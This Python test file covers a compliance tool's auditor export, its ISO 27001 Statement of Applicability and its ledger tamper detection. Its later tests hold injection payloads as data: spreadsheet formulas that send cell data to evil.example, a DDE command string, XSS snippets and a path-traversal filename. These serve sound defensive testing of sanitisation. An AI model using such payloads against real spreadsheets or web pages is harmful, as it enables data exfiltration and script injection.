"""The auditor export matches the database; the SoA lists all 93 controls; verify catches tampering."""

from __future__ import annotations

import csv
import io
import json
import zipfile
from datetime import date
from pathlib import Path

import pytest
from sqlalchemy import select, text
from typer.testing import CliRunner

from bot.cli import app
from core import ledger
from core.db import Database
from core.evidence.export import ExportEmptyError, build_export, soa_rows
from core.evidence.register import import_rows, read_rows, validate
from core.evidence.service import EvidenceError, FileUpload, controls_for, review, submit
from core.models import OrgControl, Submission
from core.requirements import requirement_resolver, requirements
from knowledge.catalogue import Catalogue
from tests.paths import EXAMPLES

EXAMPLE = EXAMPLES / "register.csv"
runner = CliRunner()


@pytest.fixture
def filled(database_url: str, catalogue: Catalogue, settings) -> Database:  # type: ignore[no-untyped-def]
    """Register imported, two submissions (one with a file), one accepted."""
    db = Database(database_url)
    rows = validate(
        read_rows(EXAMPLE),
        resolve_requirement=requirement_resolver(catalogue),
        known_ids=list(catalogue.entries),
    )
    with db.session_scope() as session:
        import_rows(
            rows,
            db_session=session,
            actor="t",
            resolve_user=lambda e: "UALICE" if e.startswith("alice") else None,
        )
    with db.session_scope() as session:
        ac01 = controls_for("AC-01", db_session=session)
        result = submit(
            ac01,
            db_session=session,
            submitted_by="UALICE",
            text="Q4 review",
            zone=settings.zone,
            upload=FileUpload("review.pdf", b"%PDF signed"),
            max_bytes=1000,
            effective=date(2026, 10, 1),
        )
        review(
            result.submissions[0].request_id,
            accept=True,
            reviewer="USEC1",
            comment=None,
            db_session=session,
        )
        submit(
            controls_for("HR-01", db_session=session),
            db_session=session,
            submitted_by="UBOB",
            link="https://lms.example.com/r",
            zone=settings.zone,
            max_bytes=1000,
        )
    return db


def test_export_zip_matches_the_database(
    filled: Database, catalogue: Catalogue, tmp_path: Path
) -> None:
    out = tmp_path / "audit.zip"
    with filled.session_scope() as session:
        manifest = build_export(out, db_session=session, requirements=requirements(catalogue))
        head = ledger.head(db_session=session)
        submissions = list(session.scalars(select(Submission).order_by(Submission.id)))
    archive = zipfile.ZipFile(out)
    names = set(archive.namelist())
    assert {
        "manifest.json",
        "controls.csv",
        "evidence.csv",
        "acknowledgements.csv",
        "index.html",
    } <= names
    stored = json.loads(archive.read("manifest.json"))
    assert stored["ledger_head"] == {"seq": head[0], "hash": head[1]} == manifest["ledger_head"]
    assert stored["counts"]["submissions"] == 2 and stored["counts"]["files"] == 1
    import hashlib

    for name, digest in stored["files"].items():
        assert hashlib.sha256(archive.read(name)).hexdigest() == digest, name
    evidence = list(csv.DictReader(io.StringIO(archive.read("evidence.csv").decode())))
    assert [int(r["submission_id"]) for r in evidence] == [s.id for s in submissions]
    assert evidence[0]["control_id"] == "AC-01" and evidence[0]["request_status"] == "accepted"
    assert (
        evidence[0]["effective_date"] == "2026-10-01" and evidence[0]["file_name"] == "review.pdf"
    )
    file_name = [n for n in names if n.startswith("files/")][0]
    assert archive.read(file_name) == b"%PDF signed"
    controls = list(csv.DictReader(io.StringIO(archive.read("controls.csv").decode())))
    assert {"A.5.18", "CC6.2", "A.6.3"} <= {r["requirement_id"] for r in controls}
    # The report is several pages: index.html and the pages it links to.
    page = "".join(archive.read(n).decode() for n in archive.namelist() if n.endswith(".html"))
    assert head[1] in archive.read("index.html").decode()
    assert "AC-01" in page and "review.pdf" in page


def test_acknowledgements_export_counts_failed_quiz_attempts(
    filled: Database, catalogue: Catalogue, tmp_path: Path
) -> None:
    from datetime import UTC, datetime, timedelta

    from core.campaigns import service as campaigns
    from core.models import Campaign, CampaignRecipient

    with filled.session_scope() as session:
        campaign = Campaign(
            title="Phishing 2027",
            audience="users:U1,U2",
            due_at=datetime.now(UTC) + timedelta(days=7),
            created_by="USEC1",
            quiz={
                "pass_mark": 1.0,
                "questions": [{"question": "Q", "choices": ["a", "b"], "answer": 0}],
            },
        )
        session.add(campaign)
        session.flush()
        session.add_all(
            [CampaignRecipient(campaign_id=campaign.id, user_id=u) for u in ("U1", "U2")]
        )
        session.flush()
        for user in ("U1", "U1", "U2"):
            campaigns.record_quiz_failure(campaign, user, 0.0, db_session=session)
        campaigns.acknowledge(campaign.id, "U1", db_session=session, score=1.0)
        campaigns.acknowledge(campaign.id, "U2", db_session=session, score=1.0)
    with filled.session_scope() as session:
        build_export(tmp_path / "a.zip", db_session=session, requirements=requirements(catalogue))
    rows = list(
        csv.DictReader(
            io.StringIO(zipfile.ZipFile(tmp_path / "a.zip").read("acknowledgements.csv").decode())
        )
    )
    assert {r["user_id"]: r["failed_quiz_attempts"] for r in rows} == {"U1": "2", "U2": "1"}


def test_export_filters_by_framework(
    filled: Database, catalogue: Catalogue, tmp_path: Path
) -> None:
    with filled.session_scope() as session:
        build_export(
            tmp_path / "soc2.zip",
            db_session=session,
            requirements=requirements(catalogue),
            framework="soc2",
        )
    controls = list(
        csv.DictReader(
            io.StringIO(zipfile.ZipFile(tmp_path / "soc2.zip").read("controls.csv").decode())
        )
    )
    assert controls and all(r["framework"] == "soc2" for r in controls)


def test_export_range_with_no_data_says_so(
    filled: Database, catalogue: Catalogue, tmp_path: Path
) -> None:
    from datetime import UTC, datetime

    out = tmp_path / "empty.zip"
    with (
        filled.session_scope() as session,
        pytest.raises(ExportEmptyError, match="nothing exported"),
    ):
        build_export(
            out,
            db_session=session,
            requirements=requirements(catalogue),
            start=datetime(2020, 1, 1, tzinfo=UTC),
            end=datetime(2020, 12, 31, tzinfo=UTC),
        )
    assert not out.exists()


def test_soa_lists_all_93_controls(filled: Database, catalogue: Catalogue) -> None:
    annex = [
        r for r in requirements(catalogue).values() if catalogue.entries[r.id].kind == "annex_a"
    ]
    with filled.session_scope() as session:
        rows = {r[0]: r for r in soa_rows(db_session=session, annex_a=annex)}
    assert len(rows) == 93
    assert (
        rows["A.5.18"][2] == "yes"
        and "AC-01" in rows["A.5.18"][4]
        and "accepted" in rows["A.5.18"][5]
    )
    assert rows["A.7.1"][2] == "no" and "cloud" in rows["A.7.1"][3]
    assert rows["A.8.23"][2] == "not assessed"


def test_empty_submission_and_future_date_are_refused(filled: Database, settings) -> None:  # type: ignore[no-untyped-def]
    with filled.session_scope() as session:
        controls = list(session.scalars(select(OrgControl).where(OrgControl.ref == "AC-02")))
        with pytest.raises(EvidenceError, match="The submission is empty"):
            submit(
                controls,
                db_session=session,
                submitted_by="U",
                text="  ",
                zone=settings.zone,
                max_bytes=10,
            )
        with pytest.raises(EvidenceError, match="in the future"):
            submit(
                controls,
                db_session=session,
                submitted_by="U",
                text="x",
                effective=date(2999, 1, 1),
                zone=settings.zone,
                max_bytes=10,
            )
        with pytest.raises(EvidenceError, match="the limit is 10 bytes"):
            submit(
                controls,
                db_session=session,
                submitted_by="U",
                upload=FileUpload("a", b"x" * 11),
                zone=settings.zone,
                max_bytes=10,
            )


def _cli_env(database_url: str, shared_index_dir: Path) -> dict[str, str]:
    return {
        "DATABASE_URL": database_url,
        "INDEX_DIR": str(shared_index_dir),
        "SLACK_BOT_TOKEN": "",
        "KNOWLEDGE_DIR": "",
    }


def test_evidence_verify_cli_passes_then_names_the_edited_record(
    filled: Database, database_url: str, shared_index_dir: Path
) -> None:
    env = _cli_env(database_url, shared_index_dir)
    ok = runner.invoke(app, ["evidence", "verify"], env=env)
    assert ok.exit_code == 0 and "ledger OK" in ok.output
    with filled.engine.begin() as conn:
        conn.execute(
            text("UPDATE ledger SET payload = replace(payload, 'UALICE', 'UMALLORY') WHERE seq = 6")
        )
    bad = runner.invoke(app, ["evidence", "verify"], env=env)
    assert bad.exit_code == 1 and "record 6 (evidence_submitted) was altered" in bad.output


def test_evidence_verify_cli_names_a_deleted_record(
    filled: Database, database_url: str, shared_index_dir: Path
) -> None:
    with filled.engine.begin() as conn:
        conn.execute(text("DELETE FROM ledger WHERE seq = 2"))
    bad = runner.invoke(app, ["evidence", "verify"], env=_cli_env(database_url, shared_index_dir))
    assert bad.exit_code == 1 and "record 2 is missing" in bad.output


def test_export_and_soa_cli(
    filled: Database, database_url: str, shared_index_dir: Path, tmp_path: Path
) -> None:
    env = _cli_env(database_url, shared_index_dir)
    result = runner.invoke(
        app, ["export", "--out", str(tmp_path / "a.zip"), "--framework", "iso27001"], env=env
    )
    assert result.exit_code == 0, result.output
    assert zipfile.ZipFile(tmp_path / "a.zip").read("manifest.json")
    soa = runner.invoke(app, ["export", "soa", "--out", str(tmp_path / "soa.csv")], env=env)
    assert soa.exit_code == 0 and len((tmp_path / "soa.csv").read_text().splitlines()) == 94
    empty = runner.invoke(
        app,
        ["export", "--out", str(tmp_path / "b.zip"), "--from", "2001-01-01", "--to", "2001-02-01"],
        env=env,
    )
    assert empty.exit_code == 1 and "nothing exported" in empty.output
    bad = runner.invoke(
        app, ["export", "--out", str(tmp_path / "c.zip"), "--from", "yesterday"], env=env
    )
    assert bad.exit_code == 2 and "'yesterday' is not a date" in bad.output


def test_register_cli_import_errors_name_lines(
    database_url: str, shared_index_dir: Path, tmp_path: Path
) -> None:
    env = _cli_env(database_url, shared_index_dir)
    ok = runner.invoke(app, ["register", "import", str(EXAMPLE)], env=env)
    assert ok.exit_code == 0 and "5 created" in ok.output
    listed = runner.invoke(app, ["register", "list", "--json"], env=env)
    assert {r["id"] for r in json.loads(listed.output)} == {
        "AC-01",
        "AC-02",
        "HR-01",
        "OPS-01",
        "PH-01",
    }
    shown = runner.invoke(app, ["register", "show", "ac-01"], env=env)
    assert "implements: A.5.18, CC6.2, CC6.3" in shown.output
    bad = tmp_path / "bad.csv"
    bad.write_text("id,title,requirements,owner,cadence\nZ-1,Z,A.5.999,x@example.com,monthly\n")
    failed = runner.invoke(app, ["register", "import", str(bad)], env=env)
    assert (
        failed.exit_code == 1
        and "line 2 (Z-1): requirement 'A.5.999' is not a catalogue ID" in failed.output
    )


HOSTILE = {
    "text": '=HYPERLINK("https://evil.example/?d="&A1,"open")',
    "link": "@SUM(1+1)*cmd|' /C calc'!A0",
    "file": "+payload.pdf",
    "comment": "-2+3",
    "question": "=1+1 <script>alert(1)</script>",
    "campaign": "\t=cmd",
    "title": "\r=evil()",
    "justification": '=WEBSERVICE("https://evil.example")',
}


def _every_cell(data: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(data.decode())) for cell in row]


def test_no_csv_cell_in_the_export_can_start_a_formula(
    filled: Database,
    catalogue: Catalogue,
    settings,
    tmp_path: Path,  # type: ignore[no-untyped-def]
) -> None:
    from datetime import UTC, datetime, timedelta

    from core.models import Campaign, CampaignRecipient, Question
    from core.spreadsheet import FORMULA_STARTS

    with filled.session_scope() as session:
        hr01 = controls_for("HR-01", db_session=session)
        hr01[0].title = HOSTILE["title"]
        hr01[0].owner = "=owner()"
        result = submit(
            controls_for("AC-02", db_session=session),
            db_session=session,
            submitted_by="UALICE",
            text=HOSTILE["text"],
            link=HOSTILE["link"],
            upload=FileUpload(HOSTILE["file"], b"evil bytes"),
            zone=settings.zone,
            max_bytes=1000,
        )
        review(
            result.submissions[0].request_id,
            accept=False,
            reviewer="USEC1",
            comment=HOSTILE["comment"],
            db_session=session,
        )
        session.add(
            Question(user_id="-U1", surface="slack_dm", text=HOSTILE["question"], top_ids=[])
        )
        campaign = Campaign(
            title=HOSTILE["campaign"],
            audience="users:U1",
            due_at=datetime.now(UTC) + timedelta(days=7),
            created_by="USEC1",
        )
        session.add(campaign)
        session.flush()
        session.add(
            CampaignRecipient(
                campaign_id=campaign.id, user_id="U1", acknowledged_at=datetime.now(UTC)
            )
        )
    with filled.session_scope() as session:
        build_export(tmp_path / "a.zip", db_session=session, requirements=requirements(catalogue))
    archive = zipfile.ZipFile(tmp_path / "a.zip")
    tables = [n for n in archive.namelist() if n.endswith(".csv")]
    assert set(tables) == {
        "controls.csv",
        "evidence.csv",
        "acknowledgements.csv",
        "questions.csv",
    }
    for name in tables:
        bad = [c for c in _every_cell(archive.read(name)) if c.startswith(FORMULA_STARTS)]
        assert bad == [], name
    evidence = {
        r["file_name"]: r
        for r in csv.DictReader(io.StringIO(archive.read("evidence.csv").decode()))
    }["'" + HOSTILE["file"]]
    assert evidence["text"] == "'" + HOSTILE["text"]
    assert evidence["link"] == "'" + HOSTILE["link"]
    assert evidence["review_comment"] == "'-2+3"
    cells = {name: _every_cell(archive.read(name)) for name in tables}
    assert "'" + HOSTILE["question"] in cells["questions.csv"]
    assert "'" + HOSTILE["campaign"] in cells["acknowledgements.csv"]
    assert "'" + HOSTILE["title"] in cells["controls.csv"]
    assert "'=owner()" in cells["controls.csv"]


def test_export_page_escapes_html_and_shows_values_as_recorded(
    filled: Database,
    catalogue: Catalogue,
    settings,
    tmp_path: Path,  # type: ignore[no-untyped-def]
) -> None:
    from core.models import Question

    with filled.session_scope() as session:
        session.add(Question(user_id="U1", surface="slack_dm", text=HOSTILE["question"]))
        submit(
            controls_for("AC-02", db_session=session),
            db_session=session,
            submitted_by="UALICE",
            text="<img src=x onerror=alert(1)>",
            upload=FileUpload("../../etc/<b>passwd</b>", b"traversal"),
            zone=settings.zone,
            max_bytes=1000,
        )
    with filled.session_scope() as session:
        build_export(tmp_path / "a.zip", db_session=session, requirements=requirements(catalogue))
    archive = zipfile.ZipFile(tmp_path / "a.zip")
    page = "".join(archive.read(n).decode() for n in archive.namelist() if n.endswith(".html"))
    assert "<script>" not in page and "<img" not in page and "<b>" not in page
    assert "=1+1 &lt;script&gt;alert(1)&lt;/script&gt;" in page
    assert "&lt;img src=x onerror=alert(1)&gt;" in page
    import re

    stored = [n for n in archive.namelist() if n.startswith("files/")]
    assert len(stored) == 2
    assert all(re.fullmatch(r"files/[0-9a-f]{16}_[A-Za-z0-9._-]+", n) for n in stored), stored
    assert not any(n.startswith("/") or "/../" in n or "\\" in n for n in archive.namelist())


def test_soa_csv_neutralises_formulas(
    filled: Database, catalogue: Catalogue, tmp_path: Path
) -> None:
    from core.evidence.export import write_soa

    with filled.session_scope() as session:
        ph01 = controls_for("PH-01", db_session=session)[0]
        ph01.applicable = False
        ph01.justification = HOSTILE["justification"]
    annex = [
        r for r in requirements(catalogue).values() if catalogue.entries[r.id].kind == "annex_a"
    ]
    with filled.session_scope() as session:
        rows = soa_rows(db_session=session, annex_a=annex)
    write_soa(tmp_path / "soa.csv", rows)
    cells = _every_cell((tmp_path / "soa.csv").read_bytes())
    assert "'" + HOSTILE["justification"] in cells
    assert not any(c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in cells)


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_neutralise_prefixes_each_formula_start(start: str) -> None:
    from core.spreadsheet import csv_bytes, neutralise

    assert neutralise(start + "1+1") == "'" + start + "1+1"
    assert neutralise("a" + start) == "a" + start
    # Numbers are values, not formulas: a negative score stays a number.
    assert neutralise(-1) == -1 and neutralise(None) is None
    rows = list(csv.reader(io.StringIO(csv_bytes([start + "h"], [[start + "x", None]]).decode())))
    assert rows == [["'" + start + "h"], ["'" + start + "x", ""]]
